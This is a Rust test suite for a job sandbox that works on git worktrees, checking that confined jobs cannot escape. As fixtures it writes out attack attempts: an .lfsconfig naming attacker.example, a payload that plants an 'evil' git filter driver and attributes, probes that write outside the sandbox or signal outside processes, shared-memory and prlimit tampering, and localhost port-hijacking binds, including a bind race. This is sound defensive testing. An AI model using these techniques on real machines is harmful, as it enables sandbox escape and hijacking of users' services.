        let out = env.isolate(
            &repo,
            [
                "run",
                "--worktree",
                "--base",
                &branch,
                "--",
                "sh",
                "-c",
                "test -L config",
            ],
        );
        assert_status(&out, 0);
        let err = stderr(&out);
        assert!(
            err.contains("not copied") && err.contains("config/local.toml"),
            "{err}"
        );
        outside_before.assert_unchanged(&Snapshot::take(&outside), "the link's target outside");
        info_before.assert_unchanged(&Snapshot::take(&info), "the project's .git/info");
        assert!(!info.join("local.toml").exists());
        env.assert_fsck(&repo);
    }
}

/// A job commits `.gitattributes` naming a filter driver of the user's own configuration (as
/// `git lfs install` sets `filter.lfs.*` globally, whose smudge fetches from the `lfs.url` of a
/// committed `.lfsconfig`); a user continues its branch (`--base isolate/<id>`). The checkout of
/// the new worktree ran outside any sandbox with the user's rights, so the job chose what the
/// user's driver runs on and where it reaches. Now the driver runs, confined like the job: its
/// output is in the worktree (the stand-in upper-cases), its mark in HOME (which no job may write)
/// is not, and the worktree is clean.
#[test]
fn the_checkout_of_a_jobs_commit_runs_its_filter_drivers_confined() {
    let env = TestEnv::new();
    let mark = filter_driver(&env, "sh -c 'echo ran >> {MARK}; tr a-z A-Z'");
    let repo = env.repo("app");
    let branch = lfs_commit(&env, &repo);
    let out = run_from(&env, &repo, &branch);
    assert_status(&out, 0);
    assert!(
        !mark.exists(),
        "the user's filter driver ran unconfined on the job's tree: {:?}",
        fs::read_to_string(&mark)
    );
    assert_eq!(stdout(&out), "DATA\n", "{}", stderr(&out));
    assert!(
        stderr(&out).contains("ran in the sandbox"),
        "{}",
        stderr(&out)
    );
    env.assert_fsck(&repo);

    // A branch of the user's own at that commit vouches for it: the checkout is git's own.
    env.git(&repo, ["branch", "mine", &branch]);
    let out = env.isolate(
        &repo,
        [
            "run",
            "--worktree",
            "--base",
            "mine",
            "--",
            "cat",
            "data.bin",
        ],
    );
    assert_status(&out, 0);
    assert_eq!(stdout(&out), "DATA\n");
    assert!(mark.exists(), "a vouched base is checked out as git does");
}

/// The driver fails in the sandbox (here it always does; LFS does when the policy has no network
/// for its server): the files are as committed, never missing (a missing tracked file would be
/// committed as a deletion by `git commit -a`), the start line says so, and nothing ran outside.
#[test]
fn a_filter_driver_that_fails_confined_leaves_the_files_as_committed() {
    let env = TestEnv::new();
    let mark = filter_driver(&env, "sh -c 'echo ran >> {MARK}; exit 3'");
    let repo = env.repo("app");
    let branch = lfs_commit(&env, &repo);
    let out = run_from(&env, &repo, &branch);
    assert_status(&out, 0);
    assert!(!mark.exists());
    assert_eq!(stdout(&out), "data\n", "{}", stderr(&out));
    assert!(stderr(&out).contains("unfiltered"), "{}", stderr(&out));
}

/// A driver the job's data compromises (the stand-in runs the committed file as a script) writes
/// the new repository's `.git/info/attributes` and `.git/config` from inside the sandbox, then
/// fails: the checkout that writes the files as committed must not run what it planted with the
/// user's rights (`info/attributes` is read whatever `--attr-source` says).
#[test]
fn a_filter_driver_that_fails_confined_plants_nothing_the_fallback_runs() {
    let env = TestEnv::new();
    let mark = env.path().join("home/planted");
    let mut config = fs::read_to_string(env.path().join("gitconfig")).unwrap();
    config.push_str(
        "[filter \"lfs\"]\n\tsmudge = \"sh -c 'sh >/dev/null 2>&1; exit 3'\"\n\tclean = cat\n\trequired = true\n",
    );
    fs::write(env.path().join("gitconfig"), config).unwrap();
    let repo = env.repo("app");
    let script = format!(
        "mkdir -p .git/info; echo \"* filter=evil\" > .git/info/attributes; \
         git config filter.evil.smudge \"sh -c 'echo ran >> {}; cat'\"",
        mark.display()
    );
    fs::write(env.path().join("payload"), &script).unwrap();
    let (out, report) = env.worktree_job(
        &repo,
        &[],
        &format!(
            "echo '*.bin filter=lfs' > .gitattributes && cp {} data.bin && \
             git add -A && git commit -q -m lfs",
            env.path().join("payload").display()
        ),
    );
    assert_status(&out, 0);
    let branch = report["worktree"]["branch"].as_str().unwrap().to_string();
    let out = env.isolate(
        &repo,
        ["run", "--worktree", "--base", &branch, "--", "true"],
    );
    assert!(
        !mark.exists(),
        "what the confined driver planted ran unconfined: {:?} {}",
        fs::read_to_string(&mark),
        stderr(&out)
    );
    assert!(stderr(&out).contains("unfiltered"), "{}", stderr(&out));
}

/// The user's global filter driver `lfs` (smudge `smudge`, clean lower-casing back, required as
/// `git lfs install` makes it), whose runs leave a mark in HOME; `{MARK}` in `smudge` is the mark's
/// path.
fn filter_driver(env: &TestEnv, smudge: &str) -> PathBuf {
    let mark = env.path().join("home/smudged");
    let smudge = smudge.replace("{MARK}", &mark.display().to_string());
    let mut config = fs::read_to_string(env.path().join("gitconfig")).unwrap();
    config.push_str(&format!(
        "[filter \"lfs\"]\n\tsmudge = \"{smudge}\"\n\tclean = tr A-Z a-z\n\trequired = true\n"
    ));
    fs::write(env.path().join("gitconfig"), config).unwrap();
    mark
}

/// A worktree cut from `branch`, printing `data.bin` and its status.
fn run_from(env: &TestEnv, repo: &Path, branch: &str) -> Output {
    env.isolate(
        repo,
        [
            "run",
            "--worktree",
            "--base",
            branch,
            "--",
            "sh",
            "-c",
            "cat data.bin; git status --porcelain",
        ],
    )
}

/// A job's commit naming the `lfs` filter for `data.bin`, with an `.lfsconfig` of its choosing; its
/// branch.
fn lfs_commit(env: &TestEnv, repo: &Path) -> String {
    let (out, report) = env.worktree_job(
        repo,
        &[],
        "echo '*.bin filter=lfs' > .gitattributes && echo data > data.bin && \
         printf '[lfs]\\n\\turl = http://attacker.example/\\n' > .lfsconfig && \
         git add -A && git commit -q -m lfs",
    );
    assert_status(&out, 0);
    report["worktree"]["branch"].as_str().unwrap().to_string()
}

// ---- A job inside a job: the inner one is held to the outer's sandbox narrowed further ----

#[test]
fn a_nested_job_cannot_write_the_outer_worktree_reach_its_sockets_or_signal_its_processes() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let server = env.file(
        "outer-server.py",
        "import os, socket, sys\n\
         s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen()\n\
         c, _ = s.accept()\n\
         open(sys.argv[2], 'w').write('reached')\n",
    );
    let server = server.display();
    let attack = probe(
        &env,
        "inner-attack.py",
        "outer, project, sock, victim, jobs = sys.argv[1:6]\n\
         def write(path, mode='w'):\n\
         \x20   with open(path, mode) as f: f.write('planted\\n')\n\
         attempt('outer new file', lambda: write(os.path.join(outer, 'planted')))\n\
         attempt('outer tracked file', lambda: write(os.path.join(outer, 'README'), 'a'))\n\
         attempt('outer git config', lambda: write(os.path.join(outer, '.git/config'), 'a'))\n\
         attempt('outer ref', lambda: write(os.path.join(outer, '.git/refs/heads/planted')))\n\
         attempt('outer via proc root', lambda: write('/proc/self/root' + outer + '/planted'))\n\
         attempt('project file', lambda: write(os.path.join(project, 'README'), 'a'))\n\
         attempt('sibling records', lambda: write(os.path.join(jobs, 'planted')))\n\
         attempt('outer socket', lambda: unix(sock))\n\
         attempt('outer socket via proc root', lambda: unix('/proc/self/root' + sock))\n\
         attempt('signal outer', lambda: os.kill(int(victim), 15))\n\
         attempt('own tmpdir', lambda: write(os.path.join(os.environ['TMPDIR'], 'mine')))\n",
    );
    let out = attempt_in(
        &env,
        &repo,
        &format!(
            "python3 {server} \"$TMPDIR/outer.sock\" \"$TMPDIR/reached\" & server=$!\n\
             sleep 60 & victim=$!\n\
             for i in $(seq 100); do [ -S \"$TMPDIR/outer.sock\" ] && break; sleep 0.05; done\n\
             {BIN} run --worktree --name sub -- python3 {attack} \"$ISOLATE_WORKTREE\" \
               \"$ISOLATE_REPO\" \"$TMPDIR/outer.sock\" $victim \"$ISOLATE_NESTED_STATE/jobs\"\n\
             echo \"inner status $?\"\n\
             kill -0 $victim && echo 'victim alive'\n\
             [ -e \"$TMPDIR/reached\" ] && echo 'outer socket REACHED'\n\
             kill $server $victim\n\
             echo \"outer status: $(git status --porcelain | wc -l)\""
        ),
    );
    let said = stdout(&out);
    assert!(
        said.contains("own tmpdir: ok"),
        "the attack did not run: {said}"
    );
    for denied in [
        "outer new file: EACCES",
        "outer tracked file: EACCES",
        "outer git config: EACCES",
        "outer ref: EACCES",
        "outer via proc root: EACCES",
        "project file: EACCES",
        "sibling records: EACCES",
        "outer socket: EACCES",
        "outer socket via proc root: EACCES",
        "signal outer: EPERM",
    ] {
        assert!(said.contains(denied), "expected {denied:?}: {said}");
    }
    assert!(said.contains("inner status 0"), "{said}");
    assert!(said.contains("victim alive"), "{said}");
    assert!(!said.contains("REACHED"), "{said}");
    assert!(said.contains("outer status: 0"), "{said}");
}

#[test]
fn a_nested_offline_job_under_an_open_outer_job_reaches_no_network() {
    // The outer job's network is open (default): the inner job's own Landlock domain and filter
    // are all that hold it to `offline`.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (tcp, udp) = outside_listeners();
    let prog = bypass_probe(&env);
    let out = attempt_in(
        &env,
        &repo,
        &format!(
            "{BIN} run --worktree --policy offline -- python3 {prog} {} {}; echo \"inner status $?\"",
            tcp.local_addr().unwrap().port(),
            udp.local_addr().unwrap().port()
        ),
    );
    assert_said(&out, "inner status 0");
    assert_no_bypass(&out, &tcp, &udp);
}

#[test]
fn a_strict_nested_job_cannot_read_its_siblings_tmpdir_record_or_worktree() {
    // Under `strict` a job reads the system, the project and itself: never another job's private
    // TMPDIR, record or worktree. One level down too: the siblings' state is in the outer job's
    // record directory, in none of the inner jobs' projects.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let out = attempt_in(
        &env,
        &repo,
        &format!(
            "{BIN} run --worktree --name sib -- sh -c 'echo s3cret > \"$TMPDIR/secret\"; \
               while [ ! -e \"$ISOLATE_REPO/.git/done\" ]; do sleep 0.05; done' \
               > \"$TMPDIR/sib.out\" 2>&1 &\n\
             for i in $(seq 200); do ls \"$ISOLATE_NESTED_STATE\"/jobs/sib-*/tmp/secret >/dev/null 2>&1 && break; \
               sleep 0.05; done\n\
             job=$(ls -d \"$ISOLATE_NESTED_STATE\"/jobs/sib-*)\n\
             wt=$(ls -d \"$ISOLATE_NESTED_STATE\"/worktrees/*/sib-*)\n\
             {BIN} run --worktree --policy strict -- sh -c '\
               cat \"$1/tmp/secret\" 2>/dev/null && echo \"sibling TMPDIR READ\"; \
               cat \"$1/job.json\" >/dev/null 2>&1 && echo \"sibling record READ\"; \
               cat \"$2/README\" >/dev/null 2>&1 && echo \"sibling worktree READ\"; \
               echo mine > \"$TMPDIR/mine\" && echo \"own tmpdir ok\"' _ \"$job\" \"$wt\"\n\
             echo \"inner status $?\"\n\
             touch .git/done; wait"
        ),
    );
    assert_said(&out, "inner status 0");
    assert_said(&out, "own tmpdir ok");
    let said = stdout(&out);
    assert!(!said.contains("s3cret"), "{said}");
    assert!(!said.contains("READ"), "{said}");
}

/// A merge git itself refuses (the job adds `.env/x` where the user's ignored `.env` is a file)
/// used to be "put back" by removing every file the job added, by path: through a link of the
/// user's (tracked or ignored), through a link an earlier job's merge brought, or inside a
/// repository of the user's own in the checkout, that removed the user's files outside the
/// project. Each variant's outside files and the project stay byte for byte as they were.
#[test]
fn a_merge_that_cannot_land_never_removes_files_through_a_link_or_inside_the_users_repositories() {
    let in_the_way = "mkdir -p .env && : > .env/x && git add -f .env/x";
    for (what, user, job) in [
        (
            "a tracked link of the user's",
            "ln -s ../outside shared && git add shared && git commit -qm shared",
            format!("git rm -q shared && mkdir shared && echo job > shared/notes.txt && {in_the_way} && git add -f shared"),
        ),
        (
            "an ignored link of the user's",
            "ln -s ../outside data && echo data >> .git/info/exclude",
            format!("mkdir data && echo job > data/notes.txt && {in_the_way} && git add -f data"),
        ),
        (
            "a repository of the user's own inside the checkout",
            "mkdir -p tools && git init -q tools/mylib && echo mine > tools/mylib/notes.txt",
            format!("mkdir -p tools/mylib && echo job > tools/mylib/notes.txt && {in_the_way} && git add -f tools"),
        ),
    ] {
        let env = TestEnv::new();
        let repo = env.repo("app");
        let outside = env.path().join("outside");
        fs::create_dir_all(&outside).unwrap();
        fs::write(outside.join("notes.txt"), "the user's notes\n").unwrap();
        as_the_user(&env, &repo, &format!("echo .env >> .git/info/exclude && {user}"));
        fs::write(repo.join(".env"), "SECRET=the users\n").unwrap();
        let (out, report) = env.worktree_job(&repo, &[], &format!("{job} && git commit -qm job"));
        assert_status(&out, 0);
        let id = report["id"].as_str().unwrap();
        let (outside_before, repo_before) = (Snapshot::take(&outside), Snapshot::take(&repo));
        let main = env.git(&repo, ["rev-parse", "main"]);
        let out = env.isolate(&repo, ["merge", "--yes", id]);
        assert_status(&out, 1);
        outside_before.assert_unchanged(&Snapshot::take(&outside), what);
        repo_before.assert_unchanged(&Snapshot::take(&repo), what);
        assert_eq!(env.git(&repo, ["rev-parse", "main"]), main, "{what}");
    }
}

/// `sh -c SCRIPT` in `dir`, as the user, in the test's environment.
fn as_the_user(env: &TestEnv, dir: &Path, script: &str) {
    let mut cmd = std::process::Command::new("sh");
    cmd.args(["-c", script]).current_dir(dir);
    env.apply(&mut cmd);
    assert!(cmd.status().unwrap().success(), "{script}");
}

/// The same through a link the job itself brought: a first job's merge lands `cache -> ../outside`
/// (shown as a link out of the project, before anything else), a second replaces it with a
/// directory of files named as the user's keys, and its merge cannot land.
#[test]
fn a_link_a_job_merged_is_shown_as_one_and_no_later_merge_removes_files_through_it() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let outside = env.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::write(outside.join("authorized_keys"), "ssh-ed25519 AAAA user\n").unwrap();
    fs::write(repo.join(".gitignore"), ".env\n").unwrap();
    env.git(&repo, ["commit", "-q", "-am", "ignore .env"]);
    fs::write(repo.join(".env"), "SECRET=the users\n").unwrap();
    let (out, report) = env.worktree_job(
        &repo,
        &[],
        "ln -s ../outside cache && git add cache && git commit -qm cache",
    );
    assert_status(&out, 0);
    let out = env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]);
    assert_status(&out, 0);
    let shown = stderr(&out);
    let first = shown
        .find("read these first")
        .expect("the link is shown first");
    let link = shown
        .find("A cache -> ../outside  (a link out of the project")
        .unwrap_or_else(|| panic!("the link and where it points are shown:\n{shown}"));
    assert!(first < link, "{shown}");
    let (out, report) = env.worktree_job(
        &repo,
        &[],
        "git rm -q cache && mkdir cache .env && : > cache/authorized_keys && : > .env/x && \
         git add -f cache .env && git commit -qm refresh",
    );
    assert_status(&out, 0);
    let before = Snapshot::take(&outside);
    let out = env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]);
    assert_status(&out, 1);
    before.assert_unchanged(&Snapshot::take(&outside), "the link's target");
    assert!(
        stderr(&out).contains("where the merge needs a directory"),
        "{}",
        stderr(&out)
    );
}

/// A submodule's new commit lands with a merge: the preview shows it whatever the `.gitmodules` a
/// job merged earlier (`ignore = all`) or the project's `diff.ignoreSubmodules` say.
#[test]
fn the_merge_preview_shows_a_submodule_moved_whatever_gitmodules_or_config_hide() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let commit = |n: char| n.to_string().repeat(40);
    env.git(
        &repo,
        [
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{},lib", commit('1')),
        ],
    );
    fs::write(
        repo.join(".gitmodules"),
        "[submodule \"lib\"]\n\tpath = lib\n\turl = ../lib\n",
    )
    .unwrap();
    env.git(&repo, ["add", ".gitmodules"]);
    env.git(&repo, ["commit", "-q", "-m", "submodule"]);
    // As a clone leaves a submodule not yet fetched: an empty directory.
    fs::create_dir_all(repo.join("lib")).unwrap();
    let (out, report) = env.worktree_job(
        &repo,
        &[],
        "git config -f .gitmodules submodule.lib.ignore all && git commit -qam quiet",
    );
    assert_status(&out, 0);
    assert_status(
        &env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]),
        0,
    );
    env.git(&repo, ["config", "diff.ignoreSubmodules", "all"]);
    let script = format!(
        "git update-index --cacheinfo 160000,{},lib && echo more >> README && git commit -qam pin",
        commit('2')
    );
    let (out, report) = env.worktree_job(&repo, &[], &script);
    assert_status(&out, 0);
    let out = env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]);
    assert!(
        stderr(&out).contains(&format!(
            "M lib (a submodule, at commit {})",
            &commit('2')[..12]
        )),
        "the submodule's move was not shown:\n{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("changing 2 files"),
        "{}",
        stderr(&out)
    );
}

/// The user's own filter driver (as `git lfs install` sets one) must not run on files the job's
/// `.gitattributes` chose, with the user's rights, when the merge checks them out: the checkout
/// applies the attributes of the commit shown.
#[test]
fn a_merge_checks_out_with_the_projects_attributes_not_those_the_job_brings() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let marker = env.path().join("smudged");
    let smudge = format!("sh -c 'echo ran >> {}; cat'", marker.display());
    env.git(&repo, ["config", "filter.demo.smudge", &smudge]);
    let (out, report) = env.worktree_job(
        &repo,
        &["--policy", "offline"],
        "echo '*.dat filter=demo' > .gitattributes && echo payload > a.dat && git add . && git commit -qm attrs",
    );
    assert_status(&out, 0);
    let out = env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]);
    assert_status(&out, 0);
    assert_eq!(fs::read_to_string(repo.join("a.dat")).unwrap(), "payload\n");
    assert!(!marker.exists(), "the user's filter ran on the job's files");
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
}

/// What acts on another process by id with only a uid check, which no Landlock rule or scope
/// sees: System V shared memory of the user's (found by id in `/proc/sysvipc/shm`, an
/// `IPC_PRIVATE` segment needs no key), and the limits, priority and affinity of a process of the
/// user's outside the job (`RLIMIT_CPU` of 0 kills it where `kill` is refused). Each is refused,
/// and the outside process and its segment are as they were.
#[test]
fn sysv_memory_and_the_limits_and_priority_of_outside_processes_are_out_of_reach() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let outside = env.file(
        "outside.py",
        "import ctypes, sys, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.shmat.restype = ctypes.c_void_p\n\
         seg = libc.shmget(0, 4096, 0o1600)\n\
         addr = libc.shmat(seg, None, 0)\n\
         ctypes.memmove(addr, b'OUTSIDE-ORIGINAL', 16)\n\
         print(seg, flush=True)\n\
         time.sleep(float(sys.argv[1]))\n\
         print(ctypes.string_at(addr, 16).decode(), flush=True)\n",
    );
    let job = env.file(
        "job.py",
        "import ctypes, os, resource, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.shmat.restype = ctypes.c_void_p\n\
         seg, victim = int(sys.argv[1]), int(sys.argv[2])\n\
         addr = libc.shmat(seg, None, 0)\n\
         if addr not in (None, ctypes.c_void_p(-1).value):\n\
         \x20   ctypes.memmove(addr, b'WRITTEN-BY-JOB!!', 16); print('shm written')\n\
         else: print('shmat', ctypes.get_errno())\n\
         for what, call in [('prlimit', lambda: resource.prlimit(victim, resource.RLIMIT_CPU, (0, 0))),\n\
         \x20   ('setpriority', lambda: os.setpriority(os.PRIO_PROCESS, victim, 19)),\n\
         \x20   ('affinity', lambda: os.sched_setaffinity(victim, {0}))]:\n\
         \x20   try: call(); print(what, 'done')\n\
         \x20   except OSError as e: print(what, e.errno)\n\
         print('attempted')\n",
    );
    let (mut victim, mut out, seg) = started_outside(&env, &outside, &["8"]);
    let pid = victim.id().to_string();
    let nice_before = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let limits_before = fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let ran = python_job(&env, &repo, &job, &[&seg, &pid]);
    let said = stdout(&ran);
    assert!(said.contains("attempted"), "{said}{}", stderr(&ran));
    for done in [
        "shm written",
        "prlimit done",
        "setpriority done",
        "affinity done",
    ] {
        assert!(!said.contains(done), "{done}: {said}");
    }
    assert_eq!(
        fs::read_to_string(format!("/proc/{pid}/limits")).unwrap(),
        limits_before
    );
    let field = |stat: &str, n: usize| {
        stat.rsplit(')')
            .next()
            .unwrap()
            .split(' ')
            .nth(n)
            .map(str::to_string)
    };
    let now = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    assert_eq!(
        field(&now, 17),
        field(&nice_before, 17),
        "its nice value changed"
    );
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    assert!(
        victim.wait().unwrap().success(),
        "the outside process was killed"
    );
    assert_eq!(rest.trim(), "OUTSIDE-ORIGINAL");
}

/// A localhost service of the user's on one family's loopback (`127.0.0.1:P`, or `[::1]:P`): a job
/// that listens on the other family's (`[::1]:P`, a v6-only `[::]:P`, `127.0.0.1:P`, `0.0.0.0:P`),
/// which the kernel allows (two families), takes every client that resolves `localhost` to that
/// family first. Refused with `EADDRINUSE` under every policy, and the port still reaches the
/// service alone; the job's own dual-stack server (both families on its own port) listens.
#[test]
fn a_job_never_listens_beside_a_users_localhost_service_on_the_other_family() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let Ok(v6) = std::net::TcpListener::bind("[::1]:0") else {
        eprintln!("no IPv6 loopback on this machine: no other family to listen on");
        return;
    };
    let v4 = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let (p4, p6) = (
        v4.local_addr().unwrap().port(),
        v6.local_addr().unwrap().port(),
    );
    let busy = libc::EADDRINUSE;
    let want = format!(
        "::1 p4 {busy}\n:: p4 {busy}\n127.0.0.1 p6 {busy}\n0.0.0.0 p6 {busy}\nown listening\n"
    );
    let serve = "s = socket.socket(family, socket.SOCK_STREAM)\n\
                 if v6only: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)\n\
                 s.bind((addr, port))\n\
                 try: s.listen(8); return s\n\
                 except OSError as e: print(addr, port == p4 and 'p4' or 'p6', e.errno)\n";
    let job = Beside {
        serve,
        served: "listening",
        then: "",
    };
    for policy in ["default", "strict"] {
        let (said, err) = job.run(&env, &repo, policy, (p4, p6));
        assert_eq!(said, want, "{policy}: {err}");
    }
    for (port, other) in [(p4, "[::1]"), (p6, "127.0.0.1")] {
        let refused = std::net::TcpStream::connect(format!("{other}:{port}")).unwrap_err();
        assert_eq!(
            refused.kind(),
            std::io::ErrorKind::ConnectionRefused,
            "{other}:{port}"
        );
    }
    drop((v4, v6));
}

/// The same for UDP, which serves as soon as it is bound: a job never binds the other family's
/// loopback or wildcard address on a port a user's UDP service holds (`[::1]:P` beside a DNS cache
/// on `127.0.0.1:P`), not through an `AF_UNSPEC` address either. Its own UDP server may take both
/// families.
#[test]
fn a_job_never_binds_udp_beside_a_users_localhost_service_on_the_other_family() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let Ok(v6) = std::net::UdpSocket::bind("[::1]:0") else {
        eprintln!("no IPv6 loopback on this machine: no other family to bind");
        return;
    };
    let v4 = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let (p4, p6) = (
        v4.local_addr().unwrap().port(),
        v6.local_addr().unwrap().port(),
    );
    let serve = "s = socket.socket(family, socket.SOCK_DGRAM)\n\
                 if v6only: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)\n\
                 try: s.bind((addr, port)); return s\n\
                 except OSError as e: print(addr, port == p4 and 'p4' or 'p6', e.errno)\n";
    // An AF_UNSPEC address, which the kernel binds as 0.0.0.0 on an AF_INET socket.
    let then = "import ctypes, struct\n\
                libc = ctypes.CDLL(None, use_errno=True)\n\
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
                unspec = struct.pack('=H', socket.AF_UNSPEC) + struct.pack('>H', p6) + bytes(12)\n\
                rc = libc.bind(s.fileno(), ctypes.c_char_p(unspec), len(unspec))\n\
                print('unspec', 'bound' if rc == 0 else ctypes.get_errno())\n";
    let job = Beside {
        serve,
        served: "bound",
        then,
    };
    // `strict` makes no UDP socket.
    let (said, err) = job.run(&env, &repo, "default", (p4, p6));
    let busy = libc::EADDRINUSE;
    let want = format!(
        "::1 p4 {busy}\n:: p4 {busy}\n127.0.0.1 p6 {busy}\n0.0.0.0 p6 {busy}\nown bound\n\
         unspec {busy}\n"
    );
    assert_eq!(said, want, "{err}");
    drop((v4, v6));
}

/// A job that serves (`serve`: the body of a python function of `family`, `addr`, `port` and
/// `v6only` that returns the socket, or prints the refusal) on the other family's loopback or
/// wildcard address of the ports `p4` (a user's `127.0.0.1`) and `p6` (a user's `[::1]`), then on
/// both families of a port of its own, then runs `then`.
struct Beside {
    serve: &'static str,
    /// What it prints of a socket that serves.
    served: &'static str,
    then: &'static str,
}

impl Beside {
    /// What the job printed under `policy`, and its stderr. In the project: `strict` reads
    /// nothing else of the test's.
    fn run(
        &self,
        env: &TestEnv,
        repo: &Path,
        policy: &str,
        (p4, p6): (u16, u16),
    ) -> (String, String) {
        let body: String = self
            .serve
            .lines()
            .map(|l| format!("    {}\n", l.trim()))
            .collect();
        let served = self.served;
        let script = format!(
            "import socket, sys\n\
             p4, p6 = int(sys.argv[1]), int(sys.argv[2])\n\
             def serve(family, addr, port, v6only=False):\n{body}\
             \x20   s.close()\n\
             for args in [(socket.AF_INET6, '::1', p4), (socket.AF_INET6, '::', p4, True),\n\
             \x20            (socket.AF_INET, '127.0.0.1', p6), (socket.AF_INET, '0.0.0.0', p6)]:\n\
             \x20   if serve(*args): print(args[1], '{served}')\n\
             own = serve(socket.AF_INET, '127.0.0.1', 0)\n\
             mine = serve(socket.AF_INET6, '::1', own.getsockname()[1])\n\
             print('own', '{served}' if mine else 'refused')\n{}",
            self.then
        );
        let job = repo.join("job.py");
        fs::write(&job, script).unwrap();
        let (p4, p6) = (p4.to_string(), p6.to_string());
        let job = job.to_str().unwrap();
        let argv = [
            "run", "-q", "--policy", policy, "--", "python3", job, &p4, &p6,
        ];
        let ran = env.isolate(repo, argv);
        (stdout(&ran), stderr(&ran))
    }
}

/// The UDP check is made on the address the broker read, and the bind too: a second thread of the
/// job that flips the port of the address it binds, between one the check lets through and a
/// user's (tests/data/udp-bind-race.c), never lands on the user's port. (With the kernel making
/// the bind, on a second read of the address, a review won this race within 1-525 binds.)
#[test]
fn a_udp_bind_whose_address_another_thread_swaps_never_lands_beside_a_users_service() {
    let env = TestEnv::new();
    if std::net::UdpSocket::bind("[::1]:0").is_err() {
        eprintln!("no IPv6 loopback on this machine: no other family to bind");
        return;
    }
    // A user's service on 127.0.0.1:P, with [::1]:P+1 free for the job's asked binds.
    let (user, port) = loop {
        let user = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = user.local_addr().unwrap().port();
        let free = port < u16::MAX && std::net::UdpSocket::bind(("::1", port + 1)).is_ok();
        if free && std::net::UdpSocket::bind(("::1", port)).is_ok() {
            break (user, port);
        }
    };
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/udp-bind-race.c");
    let race = env.path().join("udp-bind-race");
    let built = Command::new("cc")
        .args(["-O1", "-pthread", "-o"])
        .arg(&race)
        .arg(&source)
        .output()
        .unwrap();
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    let repo = env.repo("app");
    let argv = [
        "run",
        "-q",
        "--policy",
        "default",
        "--",
        race.to_str().unwrap(),
    ];
    let ran = env.isolate(
        &repo,
        argv.iter()
            .copied()
            .chain([port.to_string().as_str(), "20000"]),
    );
    let said = stdout(&ran);
    assert!(said.starts_with("lost: "), "{said} {}", stderr(&ran));
    // Both ports were asked for: some binds got the free one, the others were refused.
    let counts: Vec<u32> = said
        .split(|c: char| !c.is_ascii_digit())
        .filter_map(|n| n.parse().ok())
        .collect();
    assert!(counts.len() == 2 && counts.iter().all(|&n| n > 0), "{said}");
    drop(user);
}

/// A localhost service of the user's that binds its port with `SO_REUSEPORT` (TCP and UDP): a job
/// of the same user that binds the same port with it would be handed part of the service's
/// clients. The option is refused in the job (as a kernel without it refuses it), and the port
/// stays the service's alone: binding it without the option fails too.
#[test]
fn a_port_a_users_service_shares_with_so_reuseport_is_not_shared_with_a_job() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let service = env.file(
        "service.py",
        "import socket, sys, time\n\
         tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
         tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n\
         tcp.bind(('127.0.0.1', 0)); tcp.listen(16)\n\
         port = tcp.getsockname()[1]\n\
         udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n\
         udp.bind(('127.0.0.1', port))\n\
         print(port, flush=True)\n\
         time.sleep(float(sys.argv[1]))\n",
    );
    let job = env.file(
        "job.py",
        "import socket, sys\n\
         port = int(sys.argv[1])\n\
         for name, kind in [('tcp', socket.SOCK_STREAM), ('udp', socket.SOCK_DGRAM)]:\n\
         \x20   s = socket.socket(socket.AF_INET, kind)\n\
         \x20   try: s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); print(name, 'option set')\n\
         \x20   except OSError as e: print(name, 'option', e.errno)\n\
         \x20   try: s.bind(('127.0.0.1', port)); print(name, 'bound')\n\
         \x20   except OSError as e: print(name, 'bind', e.errno)\n\
         print('attempted')\n",
    );
    let (mut svc, _out, port) = started_outside(&env, &service, &["20"]);
    let ran = python_job(&env, &repo, &job, &[&port]);
    let _ = svc.kill();
    let _ = svc.wait();
    let said = stdout(&ran);
    assert!(said.contains("attempted"), "{said}{}", stderr(&ran));
    for proto in ["tcp", "udp"] {
        let option = format!("{proto} option {}", libc::ENOPROTOOPT);
        assert!(said.contains(&option), "{said}");
        assert!(!said.contains(&format!("{proto} bound")), "{said}");
    }
}

/// A UDP port a localhost service of the user's bound with `SO_REUSEADDR` (as DNS forwarders and
/// metrics collectors do): a second socket that sets the option binds it too, of any user, and the
/// kernel then hands the newest socket every datagram. In a job the option is refused on a UDP
/// socket (as a kernel without it refuses it), so the port stays the service's and so do its
/// datagrams; on a TCP socket it is set as asked, as every server needs it.
#[test]
